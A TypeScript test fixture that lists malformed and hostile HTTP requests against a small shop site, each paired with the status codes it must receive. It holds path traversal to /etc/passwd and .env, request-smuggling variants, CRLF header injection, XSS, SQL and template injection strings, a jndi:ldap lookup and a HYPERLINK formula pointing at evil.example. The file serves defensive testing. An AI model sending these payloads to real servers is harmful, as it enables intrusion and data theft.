/** One bad request: its bytes, and the statuses that are right; `null` is an end without an answer. */
export type BadRequest = { name: string; bytes: Buffer; statuses: readonly (number | null)[] }

type Status = number | null
type Class = { name: string; requests: BadRequest[] }

const refusedByParser = [400] as const

function get(path: string, headers: readonly string[] = [], method = 'GET'): string {
  return [
    `${method} ${path} HTTP/1.1`,
    'Host: contoh.example',
    'Connection: close',
    ...headers,
    '',
    '',
  ].join('\r\n')
}

function post(body: string | Buffer, headers: readonly string[] = [], path = '/kontak'): Buffer {
  const bytes = typeof body === 'string' ? Buffer.from(body) : body
  const isTyped = headers.some((header) => /^content-type/i.test(header))
  const type = isTyped ? [] : ['Content-Type: application/x-www-form-urlencoded']
  const head = get(path, [...type, `Content-Length: ${bytes.byteLength}`, ...headers], 'POST')
  return Buffer.concat([Buffer.from(head, 'latin1'), bytes])
}

const good = { name: 'Sari', email: 'sari@pembeli.example', message: 'Timah' }

function form(change: Record<string, string>): Buffer {
  return post(new URLSearchParams({ ...good, ...change }).toString())
}

function each(
  name: string,
  entries: readonly (readonly [name: string, bytes: string | Buffer, ...statuses: Status[]])[],
): Class {
  return {
    name,
    requests: entries.map(([entry, bytes, ...statuses]) => ({
      name: entry,
      bytes: typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes,
      statuses,
    })),
  }
}

const paths = (name: string, entries: readonly (readonly [string, ...Status[]])[]) =>
  each(
    name,
    entries.map(([path, ...statuses]) => [path.slice(0, 80), get(path), ...statuses] as const),
  )

const long = (length: number) => 'a'.repeat(length)

/** What programs send that look for a way in, class by class, with the answer each must get from the site. */
export const badRequests: readonly Class[] = [
  each('methods', [
    ...[
      'PUT',
      'DELETE',
      'PATCH',
      'OPTIONS',
      'PROPFIND',
      'LOCK',
      'MKCOL',
      'SEARCH',
      'PURGE',
      'TRACE',
    ].map((method) => [method, get('/', [], method), 405] as const),
    ['CONNECT', get('contoh.example:443', [], 'CONNECT'), null, 400, 405],
    ['FOO', get('/', [], 'FOO'), ...refusedByParser],
    ['get in small letters', get('/', [], 'get'), ...refusedByParser],
    ['a method of 4,000 letters', get('/', [], 'G'.repeat(4000)), ...refusedByParser],
    ['none', ' / HTTP/1.1\r\nHost: x\r\n\r\n', ...refusedByParser],
  ]),
  paths('encodings', [
    ['/%', 400],
    ['/%zz', 400],
    ['/%E0%A4%A', 400],
    ['/%c0%af', 400],
    ['/%c0%ae%c0%ae/', 400],
    ['/%ff', 400],
    ['/%u0041', 400],
    ['/%25%32%65', 308, 404],
    ['/blog/%E2%82', 400],
    ['/en/%', 400],
    ['/produk/%ed%a0%80', 400],
    ['/?q=%', 200],
    ['/blog?q=%ff%fe', 200],
  ]),
  paths('traversal', [
    ['/../../etc/passwd', 404, 308],
    ['/..%2f..%2fetc%2fpasswd', 308, 404],
    ['/%2e%2e/%2e%2e/etc/passwd', 404, 308],
    ['/..;/admin', 308, 404],
    ['/....//....//etc/passwd', 308],
    ['/..\\..\\windows\\win.ini', 400, 404],
    ['/..%5c..%5cwindows%5cwin.ini', 308, 404],
    ['/assets/../../package.json', 404],
    ['/assets/..%2f..%2fpackage.json', 308, 404],
    ['/assets/%2e%2e/%2e%2e/server/main.ts', 404],
    ['/assets/..%252f..%252fpackage.json', 404],
    ['/assets/%5c..%5cpackage.json', 308, 404],
    ['/media/../../../etc/passwd', 404],
    ['/media/..%2f..%2fetc%2fpasswd', 404],
    ['/flags/..%2f..%2fserver%2findex.js', 308, 404],
    ['/.env', 404],
    ['/.git/config', 404],
    ['/.vite/manifest.json', 404],
    ['/package.json', 404],
    ['/server/index.js', 404],
  ]),
  paths('null bytes', [
    ['/%00', 400],
    ['/kontak%00', 400],
    ['/kontak%00.html', 400],
    ['/media/a.png%00.js', 404, 400],
    ['/assets/%00', 404, 400],
    ['/blog?q=%00', 200],
    ['/produk/1%00', 400],
  ]),
  paths('long addresses', [
    [`/${long(8192)}`, 414],
    [`/en/${long(8192)}`, 414],
    [`/?q=${long(8192)}`, 414],
    [`/media/${long(8192)}.png`, 414],
    [`/assets/${long(8192)}.js`, 414],
    [`/${long(3000)}`, 414],
    [`/produk/${'9'.repeat(3000)}`, 414],
    [`/${'a/'.repeat(1500)}`, 308],
    [`/${'/'.repeat(3000)}kontak`, 308],
    [`/?${'a=1&'.repeat(900)}`, 414],
    [`/${long(20_000)}`, 431],
  ]),
  each('header sizes', [
    ['20 KB in one', get('/', [`A: ${long(20_000)}`]), 431],
    [
      '20 KB in many',
      get(
        '/',
        Array.from({ length: 1000 }, (_, n) => `A${n}: ${long(15)}`),
      ),
      431,
    ],
    ['a cookie of 15 KB', get('/', [`Cookie: a=${long(15_000)}`]), 200],
    ['a name of 8 KB', get('/', [`${long(8192)}: 1`]), 200],
    ['10,000 encodings', get('/', [`Accept-Encoding: ${'x,'.repeat(6000)}`]), 200],
    ['1,000 tags', get('/', [`If-None-Match: ${'"a",'.repeat(1000)}`]), 200],
    ['1,000 ranges', get('/favicon.svg', [`Range: bytes=${'0-1,'.repeat(1000)}`]), 200, 206, 416],
  ]),
  each('doubled headers', [
    ['two hosts', 'GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n', 400],
    [
      'two lengths',
      'POST /kontak HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab',
      400,
    ],
    [
      'two lengths in one',
      'POST /kontak HTTP/1.1\r\nHost: a\r\nContent-Length: 1, 2\r\n\r\nab',
      400,
    ],
    ['two types', post('a=b', ['Content-Type: application/json', 'Content-Type: text/plain']), 415],
    ['two origins', post('a=b', ['Origin: https://a.example', 'Origin: https://b.example']), 403],
    ['two claims of an address', get('/', ['X-Forwarded-For: 1.1.1.1', 'X-Forwarded-For: x']), 200],
  ]),
  each('smuggling', [
    ...[
      ['both lengths', 'Content-Length: 4\r\nTransfer-Encoding: chunked', '0\r\n\r\n'],
      ['both, the other way', 'Transfer-Encoding: chunked\r\nContent-Length: 4', '0\r\n\r\n'],
      ['an unknown coding', 'Transfer-Encoding: xchunked', '0\r\n\r\n'],
      ['chunked first', 'Transfer-Encoding: chunked, identity', '0\r\n\r\n'],
      ['chunked twice', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: cow', '0\r\n\r\n'],
      ['a space before the colon', 'Transfer-Encoding : chunked', '0\r\n\r\n'],
      ['a folded header', 'Transfer-Encoding:\r\n chunked', '0\r\n\r\n'],
      ['a tab in the coding', 'Transfer-Encoding: \x0bchunked', '0\r\n\r\n'],
      ['a negative length', 'Content-Length: -1', ''],
      ['a signed length', 'Content-Length: +3', 'abc'],
      ['a hexadecimal length', 'Content-Length: 0x3', 'abc'],
      ['a length of 40 digits', `Content-Length: ${'9'.repeat(40)}`, 'abc'],
      ['a length of two words', 'Content-Length: 3 3', 'abc'],
      ['an empty length', 'Content-Length:', ''],
      ['a chunk that is no number', 'Transfer-Encoding: chunked', 'zz\r\nabc\r\n0\r\n\r\n'],
      ['a chunk of 20 digits', 'Transfer-Encoding: chunked', `${'f'.repeat(20)}\r\nabc`],
      ['a negative chunk', 'Transfer-Encoding: chunked', '-1\r\nabc\r\n0\r\n\r\n'],
      ['a chunk that is longer than said', 'Transfer-Encoding: chunked', '1\r\nabc\r\n0\r\n\r\n'],
      ['a bare line feed', 'A: 1\nTransfer-Encoding: chunked', '0\r\n\r\n'],
      ['a bare return', 'A: 1\rB: 2', ''],
      ['a name with a space', 'Content Length: 3', 'abc'],
      ['a header without a name', ': 3', ''],
    ].map(
      ([name = '', headers = '', body = '']) =>
        [
          name,
          `POST /kontak HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n${headers}\r\n\r\n${body}`,
          400,
        ] as const,
    ),
    ['a second request in the body', post('GET /admin HTTP/1.1\r\nHost: b\r\n\r\n'), 422],
  ]),
  each('partial requests', [
    ['half a line', 'GET / HT', 408, 400],
    ['half the headers', 'GET / HTTP/1.1\r\nHost: a\r\nA:', 408],
    [
      'a tenth of the body',
      'POST /kontak HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\nname=Sari',
      408,
    ],
    [
      'a chunk without its end',
      'POST /kontak HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nname=',
      408,
    ],
    ['only line ends', '\r\n\r\n\r\n\r\n', 408, 400, null],
  ]),
  each('protocols', [
    ['HTTP/0.9', 'GET /\r\n', 400, 408],
    ['HTTP/2 preface', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 400, 405],
    ['HTTP/9.9', 'GET / HTTP/9.9\r\nHost: a\r\n\r\n', 400],
    ['another protocol', 'GET / RTSP/1.0\r\nHost: a\r\n\r\n', 200, 400],
    ['a handshake of TLS', Buffer.from('160301020001000001fc0303', 'hex'), 400],
    ['noise', Buffer.from(Array.from({ length: 64 }, (_, n) => (n * 37) % 256)), 400],
    ['no host', 'GET / HTTP/1.1\r\nConnection: close\r\n\r\n', 400],
    ['an upgrade to a web socket', get('/', ['Upgrade: websocket', 'Sec-WebSocket-Key: x']), 200],
    ['an upgrade to HTTP/2', get('/', ['Upgrade: h2c', 'HTTP2-Settings: AAMAAABk']), 200],
    ['an expectation', get('/', ['Expect: everything']), 417],
  ]),
  each('hosts', [
    [
      'a script',
      'GET / HTTP/1.1\r\nHost: "><script>alert(1)</script>\r\nConnection: close\r\n\r\n',
      200,
      400,
    ],
    ['another site', 'GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n', 200],
    ['an empty one', 'GET / HTTP/1.1\r\nHost:\r\nConnection: close\r\n\r\n', 200, 400],
    ['a path', 'GET / HTTP/1.1\r\nHost: a/b/c\r\nConnection: close\r\n\r\n', 200, 400],
    [
      'a port of 9 digits',
      'GET / HTTP/1.1\r\nHost: a:999999999\r\nConnection: close\r\n\r\n',
      200,
      400,
    ],
    [
      'a whole address',
      'GET http://evil.example/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n',
      200,
      400,
      404,
    ],
    [
      'a sign-in',
      'GET http://a:b@evil.example/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n',
      200,
      400,
      404,
    ],
    ['an asterisk', get('*', [], 'OPTIONS'), 400, 404, 405],
  ]),
  paths('header injection', [
    ['/%0d%0aSet-Cookie:%20a=b', 308, 404],
    ['/en%0d%0aX-A:%201', 308, 404],
    ['//%0d%0aX-A:%201/', 308],
    ['/kontak/%0d%0aLocation:%20https://evil.example', 308],
    ['//evil.example/%0d%0a/..', 308],
    ['/?a=%0d%0aX-A:%201', 200],
  ]),
  paths('addresses of data', [
    ['/kontak.data?_routes=x', 200, 400, 404],
    [`/kontak.data?_routes=${'root,'.repeat(500)}`, 414],
    ['/_.data?index&_routes=', 200, 400, 404],
    ['/.data', 200, 404, 308],
    ['/..data', 404],
    ['/__manifest?p=/&version=x', 200, 204, 400, 404],
    ['/__manifest', 200, 204, 400, 404],
    ['/produk/__proto__', 404],
    ['/produk/constructor.data', 200, 404],
    ['/blog/-1', 404],
    ['/blog/1e9', 404],
    ['/blog/0x10', 404],
    ['/produk/NaN', 404],
    ['/alat/%E0%B8%81', 404],
  ]),
  paths('pictures', [
    ['/media/', 404],
    ['/media/http://evil.example/a.png', 404],
    ['/media//evil.example/a.png', 404],
    ['/media/@evil.example/a.png', 404],
    ['/media/%40evil.example/a.png', 404],
    ['/media/\\evil.example\\a.png', 400, 404],
    ['/media/a.png?w=99999999999', 404, 400],
    ['/media/a.png?w=-1', 404, 400],
    ['/media/a.png?w=1&w=2', 404, 400],
    ['/media/api/home', 404],
    ['/media/admin', 404],
  ]),
  each('forms with fields missing', [
    ['nothing at all', post(''), 422],
    ['no name', form({ name: '' }), 422],
    ['no email', form({ email: '' }), 422],
    ['no message', form({ message: '' }), 422],
    ['blanks', form({ name: ' ', message: '\t\n' }), 422],
    ['zero-width blanks', form({ name: '\u200b' }), 200, 422],
    ['other fields', post('a=b&c=d'), 422],
    ['a field twice', post('name=a&name=b&email=a%40b.example&message=c'), 200],
    ['names of objects', post('__proto__=a&constructor=b&toString=c'), 422],
    ['only ampersands', post('&'.repeat(1000)), 422],
  ]),
  each('forms that are too large', [
    ['70 KB', post(`message=${long(70_000)}`), 413],
    [
      '70 KB said, less sent',
      `POST /kontak HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 70000\r\n\r\na`,
      413,
    ],
    ['a name of 201', form({ name: long(201) }), 422],
    ['a message of 5,001', form({ message: long(5001) }), 422],
    ['an email of 255', form({ email: `${long(242)}@contoh.example` }), 422],
    ['10,000 fields', post('a=1&'.repeat(10_000)), 422],
  ]),
  each('texts of visitors', [
    ...Object.entries<Record<string, string>>({
      'CRLF in the name': { name: 'Sari\r\nBcc: a@b.example' },
      'right to left': { name: '\u202eirasS', message: 'مرحبا \u2066ltr\u2069' },
      emoji: { name: '👩‍👩‍👧‍👦', message: '😀'.repeat(500) },
      'a combining tower': { message: `a${'\u0301'.repeat(2000)}` },
      markup: { message: '<script>alert(1)</script>' },
      'a quote for SQL': { name: "'; DROP TABLE messages; --" },
      'a template': { message: '{{7*7}} #{7*7} <%= 7*7 %>' },
      'a formula': { name: '=HYPERLINK("https://evil.example")' },
      'a look-up': { message: '$\u007bjndi:ldap://evil.example/a}' },
    }).map(([name, change]) => [name, form(change), 200] as const),
    ['a null in the name', form({ name: 'a\u0000b' }), 200, 422],
    ['a lone surrogate', post('name=%ed%a0%80&email=a%40b.example&message=c'), 200, 422],
    ['an email with a line end', form({ email: 'a@b.example\r\nBcc: c@d.example' }), 422],
    ['an email with two signs', form({ email: 'a@b@c.example' }), 422],
  ]),
  each('invalid UTF-8', [
    [
      'in a form',
      post(Buffer.from('name=\xff\xfe&email=a@b.example&message=\xc3\x28', 'latin1')),
      200,
      422,
    ],
    ['in a header', get('/', ['A: \xff\xfe']), 200, 400],
    ['in the address', 'GET /\xff\xfe HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n', 400, 404],
    ['in the query', 'GET /?q=\xff HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n', 200, 400],
    ['in the host', 'GET / HTTP/1.1\r\nHost: \xff\xfe\r\nConnection: close\r\n\r\n', 200, 400],
  ]),
  each('content types', [
    ['JSON', post('{}', ['Content-Type: application/json']), 415],
    ['text', post('a', ['Content-Type: text/plain']), 415],
    ['XML', post('<a/>', ['Content-Type: application/xml']), 415],
    [
      'none',
      'POST /kontak HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Length: 1\r\n\r\na',
      415,
    ],
    ['an empty one', post('a=b', ['Content-Type: ']), 415],
    ['multipart without a boundary', post('a', ['Content-Type: multipart/form-data']), 400],
    ['multipart that is none', post('a', ['Content-Type: multipart/form-data; boundary=x']), 400],
    [
      'multipart without an end',
      post('--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb', [
        'Content-Type: multipart/form-data; boundary=x',
      ]),
      400,
    ],
    [
      'a form in gzip',
      post(Buffer.from('1f8b0800000000000003', 'hex'), ['Content-Encoding: gzip']),
      422,
      400,
      415,
    ],
    ['to a page that takes none', post('a=b', [], '/'), 405],
    ['to a page that is not there', post('a=b', [], '/tidak-ada'), 405],
  ]),
  each('other sites', [
    ['a foreign origin', post('a=b', ['Origin: https://evil.example']), 403],
    ['the origin null', post('a=b', ['Origin: null']), 403],
    ['an origin that is none', post('a=b', ['Origin: x']), 403],
    ['a hidden origin', post('a=b', ['Sec-Fetch-Site: cross-site']), 403],
    [
      'the purge without a signature',
      post('{}', ['Content-Type: application/json'], '/-/purge'),
      400,
      401,
      404,
      405,
    ],
  ]),
]
